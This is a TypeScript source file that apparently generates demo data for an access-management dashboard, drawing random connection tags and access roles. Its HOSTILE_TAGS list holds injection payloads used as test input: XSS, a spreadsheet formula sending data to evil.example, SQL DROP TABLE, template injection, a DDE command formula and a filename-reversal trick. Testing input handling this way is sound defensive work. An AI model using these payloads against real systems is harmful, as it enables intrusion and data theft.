import type { Random } from '@/lib/demo/random'
import type { Person } from '@/lib/demo/world/company'
import { SECOND } from '@/lib/demo/world/timeline'
import type { PrivxPlan } from './plan'

const TAGS = [
  'incident-4711',
  'change',
  'quarter end',
  'vendor access',
  'reviewed',
  'Prüfung',
  '監査済み',
] as const

/** Tags that someone hostile could have set: markup, formulas, statements, direction marks, length. */
export const HOSTILE_TAGS: readonly string[] = [
  '<img src=x onerror=alert(document.domain)>',
  '=HYPERLINK("https://evil.example/?"&A1,"report")',
  "'); DROP TABLE connections; --",
  '\u202Egnp.tcartnoc\u202C',
  '{{constructor.constructor("return process")()}}',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  'tab\tand\nline',
  `very-long-${'x'.repeat(400)}`,
]

export function drawTags(random: Random): readonly string[] {
  if (!random.chance(0.14)) return []
  const tags: string[] = [random.pick(TAGS), random.pick(TAGS)].slice(0, random.int(1, 2))
  if (random.chance(0.08)) tags.push(random.pick(HOSTILE_TAGS))
  return [...new Set(tags)]
}

/** Roles that were given access to one connection, soon after it started. */
export function drawAccessRoles(random: Random, person: Person, startMs: number): PrivxPlan['accessRoles'] {
  if (!random.chance(0.05)) return []
  const addedMs = Math.floor(startMs / SECOND) * SECOND + random.int(60, 7200) * SECOND
  return [{ role: random.pick(person.roles), addedMs }]
}
